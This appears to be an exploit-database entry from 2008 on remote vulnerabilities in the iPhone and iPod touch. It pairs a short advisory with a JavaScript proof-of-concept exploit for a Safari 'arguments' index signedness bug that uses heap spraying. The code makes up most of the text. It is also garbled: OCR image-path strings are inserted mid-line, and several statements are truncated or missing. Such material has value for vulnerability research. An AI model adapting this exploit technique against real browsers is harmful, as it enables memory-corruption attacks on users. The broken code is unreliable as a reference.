Apple iPhone Apple iPod Touch 2.0 - Multiple Remote Vulnerabilities

Type exploitpack
Reporter Hiromitsu Takagi
Modified 2008-07-11T00:00:00


Apple iPhone Apple iPod Touch 2.0 - Multiple Remote Vulnerabilities


Apple iPhone and iPod touch are prone to multiple remote vulnerabilities:

1. A vulnerability that may allow users to spoof websites.
2. An information-disclosure vulnerability.
3. A buffer-overflow vulnerability.
4. Two memory-corruption vulnerabilities.

Successfully exploiting these issues may allow attackers to execute arbitrary code, crash the affected application, obtain sensitive information,or direct unsuspecting victims to a spoofed site; other attacks are also possible.

These issues affect iPhone 1.0 through 1.1.4 and iPod touch 1.1 through 1.1.4.

        <SCRIPT src="HeapSpray2.js"></SCRIPT>
        <CODE id="sploit status"></CODE>
        <CODE id="heapspray status"></CODE>
                // The index for the "arguments" array in a JavaScript function in
                // Safari suffers from a signedness issue that allows access to elements
                // that are out of bounds. The index is cast to a signed value before it
                // is compared to the length of the array to check if it within the
                // bounds. Integer values larger than 0x8000,0000 will be castto a
                // negative value and because they are always smaller then the length,
                // they are treated as a valid index.
                // The index into the arguments array ends up in instructions
                // that multiply itby 4 to access data in an array of 32 bit values.
                // There are no checks for overflows in this calculation. This allows us
                // to cause it to access anything in memory:
                //     Pointer to object = base address + 4 * index
                // The base address varies only slightly and is normally about
                // 0x7FEx,xxxx. If we create a heap chunk of 0x0100,0000 bytes at a
                // predictable location using heap spraying, we can then calculate an
                // index that will access this memory.
                var iBase = 0x7fe91e6c; // Random sample - value varies but not a lot.
                var iTargetArea = 0x10000000;
                // Be advised that heap spraying is "upside down" in Safari: strings
                // are allocated at high addresses first and as the heap grows, the
                // addresses go down. The heap will therefor grow in between a lot of// DLLs which reside in this area of the address space as well.
                // We'll need to find an area of memory to spray that is not likely to
                // contain a DLL and easy to reach.
                variTargetAddress = 0x55555555;
                //     iTargetAddress(~0x5555,5555) = iBase(~0x7FEx,xxxx) + 4 * iIndex
                // 4 * iIndex = (iTargetAddress - iBase) (optionally + 0x1,0000,0000 because an integer overflow is needed)
                var iRequiredMultiplicationResult = iTargetAddress - iBase + (iTargetAddress < iBase ? 0x100000000 : 0)
                // iIndex = (iTargetAddress - iBase) / 4
                var iIndex = Math.floor(iRequiredMultiplicationResult / 4)
                // We need to trigger the signedness issue so the index must be larger
                // then 0x8000,0000. Because of the integer overflow in the
                // multiplication, we can safely add 0x4000,0000 as often as we want;
                // the multiplication will remove it from the result.
                while(iIndex < 0x80000000) iIndex += 0x40000000
                document.getElementById("sploit status").innerHTML = (
                        "iBase + 4 * iIndex = " +
                        "0x" + iBase.toString(16, 8) + " + 4 * " + iIndex.toString(16, 8) + " = " +
                        "0x" + (iBase + 4 * iIndex).toString(16, 8) + "<BR>"
                // Set up heap spray
                var oHeapSpray = new HeapSpray2(iTargetAddress, DWORD(0xDEADBEEF))
                oHeapSpray.oOutputElement = document.getElementById("heapspraystatus")
                // Spray heap asynchronously and call sploit when done.
                function sploit(oHeapSpray) {
                        // This will cause an access violation using the value 0xDEADBEEF,
                        // which comes from the strings we sprayed the heap with.
                        // 6aa3d57f 8b4f0c          mov     ecx,dword ptr [edi+0Ch] ds:0023:deadbefb=????????
                function DWORD(iValue) {
                        returnString.fromCharCode(iValue &0xFFFF, iValue >> 16)